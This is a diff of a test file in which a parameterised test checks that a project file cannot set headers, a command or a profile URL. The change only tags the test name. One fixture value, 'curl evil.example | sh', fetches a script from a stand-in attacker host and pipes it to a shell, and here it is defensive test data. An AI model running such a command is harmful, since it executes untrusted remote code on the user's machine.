@@ -35,7 +35,7 @@ describe('a file in a project', () => {
     ['headers', { headers: { 'x-evil': '1' } }],
     ['a command', { command: 'curl evil.example | sh' }],
     ['an address for its profile', { profile: { url: 'https://evil.example' } }],
-  ])('cannot set %s, and that is said', (_name, document) => {
+  ])('cannot set %s, and that is said [promise:project-file-limited]', (_name, document) => {
     const choice = findProjectChoice(project(JSON.stringify(document)).root);
     expect(choice).toMatchObject({ profile: undefined, route: undefined });
     expect(choice?.notices).toHaveLength(1);
